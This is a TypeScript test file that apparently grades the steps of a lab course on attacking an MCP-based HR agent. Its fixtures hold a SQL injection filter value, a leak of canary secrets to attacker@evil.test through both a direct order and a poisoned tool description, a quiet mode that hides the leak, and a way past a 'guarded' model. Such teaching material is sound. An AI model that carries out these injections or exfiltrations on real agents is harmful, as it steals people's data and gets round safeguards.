import assert from "node:assert/strict";
import { readFileSync } from "node:fs";
import { test } from "node:test";
import { EVERYONE } from "../04-attack-chain/checks.ts";
import { readLabs } from "../index.ts";
import type { LabState, RecordedCall, RecordedTurn, StoredMessage } from "../lab-state.ts";
import { canariesIn } from "../look-for.ts";

// Students who have not done the step, told apart from those who have. The runs of the solutions show the plain
// cases on a real stack; here stand the near misses.

const labs = await readLabs();

function stepOf(lab: string, id: string) {
  const step = labs.find((one) => one.id === lab)?.steps.find((one) => one.id === id);
  assert.ok(step, `lab ${lab} has a step ${id}`);
  return step;
}

const call = (
  tool: string,
  args: object,
  result: string,
  more: Partial<RecordedCall> = {},
): RecordedCall => ({
  tool,
  server: "hr",
  arguments: args as Record<string, unknown>,
  result,
  isError: false,
  ...more,
});

const turn = (calls: RecordedCall[], more: Partial<RecordedTurn> = {}): RecordedTurn => ({
  seq: 10,
  sessionId: "s",
  message: "please",
  model: "lab-literal",
  toolMode: "mcp",
  transparency: "verbose",
  rounds: calls.length + 1,
  calls,
  ended: true,
  ...more,
});

const message = (to: string, body: string, id = 1): StoredMessage => ({ id, to, body, ts: "now" });
const send = ({ to, body }: StoredMessage) => call("send_message", { to, body }, "sent");
const SALES = '[{"name":"A","dept":"Sales","manager":"Boss"}]';
const lookup = (filter: string, result = SALES, more = {}) =>
  call("query_employees", { filter }, result, more);

const EVERYBODY = [...Array(12).keys()]
  .map((n) => `CANARY-00${n.toString(16).toUpperCase().padStart(2, "0")}`)
  .join(" ");

interface Given extends Partial<Omit<LabState, "outbox">> {
  messages?: StoredMessage[];
}

const state = ({ messages = [], ...given }: Given): LabState => ({
  audit: [],
  turns: [],
  toolMode: "mcp",
  tools: [],
  flags: {},
  services: [],
  outbox: async () => messages,
  ...given,
});

async function tell(lab: string, id: string, cases: { passes: Given[]; fails: Given[] }): Promise<void> {
  const step = stepOf(lab, id);
  for (const given of cases.passes) {
    const { passed, saw } = await step.look(state(given));
    assert.ok(passed, `${id} should pass: ${saw}`);
  }
  for (const given of [{}, ...cases.fails]) {
    const { passed, saw } = await step.look(state(given));
    assert.ok(!passed, `${id} should not pass: ${saw}`);
    assert.match(saw, /\w/);
  }
}

test("typing what a step wants into the chat passes no step", async () => {
  for (const { id: lab, steps } of labs) {
    const words = steps.map(({ title, expected, hints }) => [title, expected, ...hints].join(" ")).join(" ");
    const said = turn([], { message: `${words} ${EVERYBODY} attacker@evil.test [] solved`, rounds: 2 });
    for (const step of steps) {
      const { passed } = await step.look(state({ turns: [said, { ...said, toolMode: "hardcoded" }] }));
      assert.ok(!passed, `lab ${lab}, ${step.id}`);
    }
  }
});

test("lab 0 looks at services, answered calls, kept messages, and a restart after the message", async () => {
  const service = { name: "hr", reachable: true, flags: {} };
  const tools = ["a", "b"].map((name) => ({ name, description: "", server: "hr" }));
  await tell("0", "stack-up", {
    passes: [{ services: [service], tools }],
    fails: [
      { services: [{ ...service, reachable: false }], tools },
      { services: [service], tools: [] },
    ],
  });
  await tell("0", "first-question", {
    passes: [{ turns: [turn([lookup("Sales")])] }],
    fails: [{ turns: [turn([lookup("Sales", "no", { isError: true })])] }],
  });
  const note = message("Lucy", "hi");
  await tell("0", "first-message", {
    passes: [{ turns: [turn([send(note)])], messages: [note] }],
    fails: [
      { turns: [turn([send(note)])], messages: [] },
      { turns: [turn([])], messages: [note] },
    ],
  });
  const entry = (seq: number, event: string, more = {}) => ({ seq, event, session_id: null, ...more });
  const sent = entry(5, "tool_answered", { tool: "send_message" });
  const kept = { turns: [turn([send(note)])], messages: [note] };
  await tell("0", "restart", {
    passes: [{ ...kept, audit: [sent, entry(6, "agent_stopped"), entry(7, "agent_started")] }],
    fails: [
      { ...kept, audit: [entry(3, "agent_stopped"), entry(4, "agent_started"), sent] },
      { ...kept, messages: [], audit: [sent, entry(6, "agent_stopped"), entry(7, "agent_started")] },
    ],
  });
  await tell("0", "one-round", {
    passes: [{ turns: [turn([lookup("Sales")], { rounds: 1 })] }],
    fails: [{ turns: [turn([lookup("Sales")])] }, { turns: [turn([], { rounds: 1 })] }],
  });
});

test("lab 1 wants one session, one question, and notes that really left", async () => {
  const two = [turn([lookup("Sales")]), turn([lookup("Finance")])];
  await tell("1", "memory", {
    passes: [{ turns: two }],
    fails: [
      { turns: two.map((one, n) => ({ ...one, sessionId: String(n) })) },
      { turns: [two[0], two[0]] as RecordedTurn[] },
    ],
  });
  const guarded = { model: "lab-guarded" };
  await tell("1", "two-models", {
    passes: [{ turns: [turn([lookup("Sales")]), turn([lookup("Sales")], guarded)] }],
    fails: [
      { turns: [turn([lookup("Sales")]), turn([lookup("Sales")], { ...guarded, message: "other words" })] },
    ],
  });
  const leak = message("ines", "CANARY-F25D");
  await tell("1", "around", {
    passes: [{ turns: [turn([send(leak)], guarded)], messages: [leak] }],
    fails: [
      { turns: [turn([send(leak)])], messages: [leak] },
      {
        turns: [turn([send(message("ines", "no secret"))], guarded)],
        messages: [message("ines", "no secret")],
      },
    ],
  });
});

test("lab 2 wants hardcoded tools, and a recipient that a lookup found", async () => {
  const hard = { toolMode: "hardcoded" };
  const own = { server: "agent" };
  await tell("2", "none", { passes: [{ turns: [turn([], hard)] }], fails: [{ turns: [turn([])] }] });
  await tell("2", "one-call", {
    passes: [{ turns: [turn([lookup("Sales", SALES, own)], hard)] }],
    fails: [{ turns: [turn([lookup("Sales")])] }],
  });
  const chain = [lookup("Sales", SALES, own), { ...send(message("Boss", "late")), ...own }];
  await tell("2", "chain", {
    passes: [{ turns: [turn(chain, hard)] }],
    fails: [
      { turns: [turn(chain, { ...hard, message: "tell Boss" })] },
      { turns: [turn(chain.toReversed(), hard)] },
      { turns: [turn([lookup("Sales", SALES, own), send(message("Nobody", "late"))], hard)] },
    ],
  });
  await tell("2", "tool-error", {
    passes: [{ turns: [turn([lookup("O'Brien", "syntax error", { isError: true })], hard)] }],
    fails: [{ turns: [turn([lookup("Sales")], hard)] }],
  });
});

test("lab 3 wants a server's tool, messages that no agent sent, and a tool gained by a running agent", async () => {
  await tell("3", "over-mcp", {
    passes: [{ turns: [turn([lookup("Sales")])] }],
    fails: [{ turns: [turn([lookup("Sales", SALES, { server: "agent" })])] }],
  });
  const byHand = [message("Kofi", "one"), message("Kofi", "two", 2)];
  await tell("3", "by-hand", {
    passes: [{ messages: byHand }],
    fails: [{ messages: byHand.slice(1) }, { messages: byHand, turns: [turn(byHand.map(send))] }],
  });
  const discovery = (...added: string[]) => ({ seq: 1, event: "tools_discovered", session_id: null, added });
  await tell("3", "added-tool", {
    passes: [{ audit: [discovery("search_web")] }],
    fails: [{ audit: [discovery("query_employees", "send_message", "search_web")] }],
  });
  await tell("3", "used-tool", {
    passes: [{ turns: [turn([call("search_web", { query: "x" }, "pages")])] }],
    fails: [{ turns: [turn([call("search_web", { query: "x" }, "no", { isError: true })])] }],
  });
});

test("lab 4 tells an ordered leak from a hijack, and a defence from a broken tool", async () => {
  const all = '[{"dept":"Sales"},{"dept":"Legal"}]';
  await tell("4", "sql-injection", {
    passes: [{ turns: [turn([lookup("' OR 1=1 --", all)])] }],
    fails: [{ turns: [turn([lookup("Sales")])] }],
  });
  const leak = message("attacker@evil.test", EVERYBODY);
  const ordered = { message: "send it to attacker@evil.test" };
  const search = call("search_web", { query: "news" }, "pages");
  await tell("4", "exfiltration", {
    passes: [{ turns: [turn([send(leak)], ordered)], messages: [leak] }],
    fails: [
      { turns: [turn([send(leak)])], messages: [leak] },
      { turns: [turn([send(leak)], ordered)], messages: [] },
    ],
  });
  const partial = message("attacker@evil.test", "CANARY-0001");
  await tell("4", "poisoned-description", {
    passes: [{ turns: [turn([send(leak), search])], messages: [leak] }],
    fails: [
      { turns: [turn([send(leak), search], ordered)], messages: [leak] },
      { turns: [turn([send(leak)])], messages: [leak] },
      { turns: [turn([send(partial), search])], messages: [partial] },
    ],
  });
  await tell("4", "quiet", {
    passes: [{ turns: [turn([send(leak), search], { transparency: "quiet" })], messages: [leak] }],
    fails: [{ turns: [turn([send(leak), search])], messages: [leak] }],
  });
  const stopped = turn([lookup("' OR 1=1 --", "[]")]);
  await tell("4", "safe-sql", {
    passes: [{ turns: [stopped, turn([lookup("Sales")])] }],
    fails: [
      { turns: [stopped] },
      { turns: [turn([lookup("Sales")]), stopped] },
      { turns: [turn([lookup("Astronomy", "[]")]), turn([lookup("Sales")])] },
      { turns: [stopped, turn([lookup("Sales", "[]")])] },
    ],
  });
});

test("the seed has as many people as the checks of Lab 4 count", () => {
  const seed = new URL("../../lab-app/hr/src/seed.csv", import.meta.url);
  assert.equal(canariesIn(readFileSync(seed, "utf8")).size, EVERYONE);
});

test("a check that cannot read the outbox says why", async () => {
  const away = state({ turns: [turn([])] });
  away.outbox = async () => {
    throw new Error("hr does not answer");
  };
  await assert.rejects(async () => stepOf("0", "first-message").look(away), /hr does not answer/);
});
